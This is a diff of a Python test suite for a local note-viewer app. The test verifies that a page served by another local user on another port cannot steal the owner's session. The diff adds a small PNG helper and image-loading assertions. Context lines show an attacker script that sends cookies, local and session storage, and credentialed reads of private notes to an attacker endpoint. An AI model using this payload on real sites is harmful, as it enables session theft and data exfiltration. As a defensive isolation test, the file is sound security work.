@@ -14,8 +14,10 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import struct
 import subprocess
 import urllib.request
+import zlib
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -42,7 +44,8 @@ const report = (what, value) => fetch("/report?" + what + "=" + encodeURICompone
 report("cookie", document.cookie);
 report("storage", JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage}));
 for (const path of ["/", "/api/note?slug=note/private", "/api/about"])
-  fetch(view + path, {credentials: "include"}).then(r => r.text()).then(t => report("read", t), e => report("read", String(e)));
+  fetch(view + path, {credentials: "include"}).then(r => r.text())
+    .then(t => report("read", t), e => report("read", String(e)));
 if (location.pathname === "/") setTimeout(() => { location.href = "/again"; }, 300);
 else setTimeout(() => report("done", "1"), 600);
 </script>'''
@@ -124,6 +127,14 @@ def attacker() -> Iterator[tuple[subprocess.Popen[str], int]]:
         process.wait()
 
 
+def _png() -> bytes:
+    """A 2x1 PNG."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 1, 8, 0, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(b"\x00\x00\xff")) + chunk(b"IEND", b""))
+
+
 def _ask_attacker(port: int, path: str) -> Any:
     with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=120) as answer:
         return json.loads(answer.read())
@@ -134,7 +145,9 @@ def test_a_page_another_user_serves_on_another_port_gets_no_session(
     process, other = attacker
     wiki = f"http://127.0.0.1:{other}/"
     docs = make_brain(tmp_path / "proj")
-    write_note(docs, "note/private.md", f"---\ntitle: Private\nlast_verified: '2099-01-01'\n---\n\n{PRIVATE}\n")
+    write_note(docs, "note/private.md", f"---\ntitle: Private\nlast_verified: '2099-01-01'\n---\n\n{PRIVATE}\n\n"
+                                        "![a dot](dot.png)\n")
+    (docs / "note" / "dot.png").write_bytes(_png())
     write_note(docs, "note/wiki.md", f"---\ntitle: Team wiki\nlast_verified: '2099-01-01'\n---\n\n"
                                      f"See [the team wiki]({wiki}).\n")
     with running_view(docs.parent, tmp_path / "home") as view, playwright_api.sync_playwright() as driver:
@@ -148,7 +161,10 @@ def test_a_page_another_user_serves_on_another_port_gets_no_session(
         page.goto(view.url)  # the owner signs in with the one-time link
         page.goto(view.base + "/#/note/note%2Fprivate")
         page.wait_for_selector("#note-title")
-        assert PRIVATE in page.inner_text(".md")  # the control: the owner reads it
+        assert PRIVATE in page.inner_text(".md")  # the control: the owner reads it, its picture too (the
+        # page fetches it with the session: an <img src> sends no header)
+        assert wait_for(lambda: page.evaluate("document.querySelector('.md img').naturalWidth"), 10) == 2
+        assert page.evaluate("document.querySelector('.md img').src").startswith("blob:")
         kept = [c["value"] for c in context.cookies()] + page.evaluate(
             "Object.values(localStorage).concat(Object.values(sessionStorage))")
         secrets = [value for value in kept if len(value) >= 16]
